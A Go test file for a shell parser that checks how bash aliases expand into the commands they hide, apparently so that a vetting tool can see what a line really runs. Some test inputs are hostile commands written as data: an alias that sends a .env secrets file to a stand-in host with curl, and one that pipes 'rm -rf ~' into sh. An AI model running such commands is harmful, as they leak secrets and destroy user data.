package shellparse

import (
	"strings"
	"testing"
	"time"
)

type aliasCase struct {
	aliases map[string]string // Options.Aliases
	tcase
	// once names commands (by joined argv) that must appear exactly once.
	once []string
}

var aliasCases = []aliasCase{
	// bash -c parses line by line: an alias defined on an earlier line applies.
	{tcase: tcase{line: "bash -c $'shopt -s expand_aliases\\nalias p=\"git push\"\\np origin main'",
		cmds:   []want{{name: "git", argv: []string{"git", "push", "origin", "main"}, via: "shell,alias"}},
		opaque: nil}},
	{tcase: tcase{line: `alias ll='ls -la'; ll`,
		cmds: []want{{name: "alias"}, {name: "ls", argv: []string{"ls", "-la"}, via: "alias"}}}},
	// An alias is not re-expanded within its own value.
	{tcase: tcase{line: `alias ls='ls -la'; ls`,
		cmds: []want{{name: "ls", argv: []string{"ls", "-la"}, via: "alias"}}},
		once: []string{"ls -la"}},
	{tcase: tcase{line: `alias p='git push' q='curl -d @.env x.example'; q`,
		cmds: []want{{name: "curl", argv: []string{"curl", "-d", "@.env", "x.example"}, via: "alias"}, {name: "git", noCommand: true}}}},
	{tcase: tcase{line: `unalias p; p`, cmds: []want{{name: "unalias"}, {name: "p", argv: []string{"p"}, via: "-"}}, count: 2}},
	// Quoted or escaped words are not alias-expanded.
	{aliases: map[string]string{"p": "git push"}, tcase: tcase{line: `'p' x; \p y; "p" z`,
		cmds: []want{{name: "p", argv: []string{"p", "x"}}, {name: "p", argv: []string{"p", "y"}}, {name: "p", argv: []string{"p", "z"}}, {name: "git", noCommand: true}}, count: 3}},
	{tcase: tcase{line: `alias p='git push'; 'p'; \p`, cmds: []want{{name: "git", noCommand: true}}, count: 3}},
	// Aliases known before the line replace the command.
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `gp origin`,
		cmds: []want{{name: "git", argv: []string{"git", "push", "origin"}, via: "alias"}}, count: 1}},
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `echo x | X=1 gp origin > /tmp/log`,
		cmds: []want{{name: "echo"}, {name: "git", argv: []string{"git", "push", "origin"}, via: "alias",
			env: map[string]string{"X": "1"}, pipeFrom: []int{0}, redirs: []string{"> /tmp/log"}}}, count: 2}},
	// ... but not in a new shell, nor in a program started by sudo.
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `bash -c 'gp origin'; sudo gp`,
		cmds: []want{{name: "git", via: "shell,alias"}, {name: "gp", via: "shell"}, {name: "sudo"}, {name: "gp", via: "wrapper"}}}},
	{aliases: map[string]string{"s": "sudo ", "gp": "git push"}, tcase: tcase{line: `s gp -f`,
		cmds: []want{{name: "sudo"}, {name: "git", argv: []string{"git", "push", "-f"}, via: "alias,wrapper"}}, count: 2}},
	{tcase: tcase{line: `alias x="$Y"; x`, opaque: []string{"dynamic-code"}}},
	{tcase: tcase{line: `alias $N=rm`, opaque: []string{"dynamic-code"}}},
	{tcase: tcase{line: `alias e='echo rm -rf ~ | sh'; e`,
		cmds: []want{{name: "echo", via: "alias"}, {name: "sh", via: "alias"}, {name: "rm", argv: []string{"rm", "-rf", "/home/u"}, via: "alias,shell"}}}},
	// Mutual recursion and self-reference end.
	{tcase: tcase{line: `alias a='b ' b='a x'; a a`, cmds: []want{{name: "a"}}}},
	{aliases: map[string]string{"a": "a; a; b", "b": "a"}, tcase: tcase{line: `a`}},
	// A redefinition within the line: bash may still use the earlier value.
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `alias gp=ls; gp`,
		cmds: []want{{name: "alias"}, {name: "git", via: "alias"}, {name: "ls", via: "alias"}, {name: "gp"}}}},
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `unalias -a; gp`,
		cmds: []want{{name: "git", via: "alias"}, {name: "gp"}}}},
	{aliases: map[string]string{"gp": "git push"}, tcase: tcase{line: `eval gp; x=$(gp)`,
		cmds: []want{{name: "git", via: "eval,alias"}, {name: "git", via: "subst,alias"}}}},
	{tcase: tcase{line: `alias -p; alias; alias p`, count: 3}},
}

func TestAliases(t *testing.T) {
	for _, tc := range aliasCases {
		t.Run(tc.line, func(t *testing.T) {
			opts := testOpts
			opts.Aliases = tc.aliases
			runCaseOpts(t, tc.tcase, opts)
			if len(tc.once) > 0 {
				l := Parse(tc.line, opts)
				for _, o := range tc.once {
					n := 0
					for _, c := range l.Commands {
						if joinArgv(c.Argv) == o {
							n++
						}
					}
					if n != 1 {
						t.Errorf("%q appears %d times, want once", o, n)
					}
				}
			}
		})
	}
}

func joinArgv(a []string) string {
	s := ""
	for i, w := range a {
		if i > 0 {
			s += " "
		}
		s += w
	}
	return s
}

func TestAliasBounded(t *testing.T) {
	val := strings.Repeat("echo x; ", 8000)
	line := "alias a='" + val + "'; " + strings.Repeat("a;", 20000)
	start := time.Now()
	l := Parse(line, testOpts)
	if d := time.Since(start); d > 5*time.Second {
		t.Errorf("took %v", d)
	}
	found := false
	for _, o := range l.Opaque {
		if o.Reason == "too-many-commands" {
			found = true
		}
	}
	if !found {
		t.Errorf("want too-many-commands")
	}
	// Aliases referring to each other many times are bounded too.
	l = Parse("alias a='b;b;b;b;b;b;b;b' b='c;c;c;c;c;c;c;c' c='d;d;d;d;d;d;d;d' d='e;e;e;e;e;e;e;e'; a", testOpts)
	checkInvariants(t, l)
}
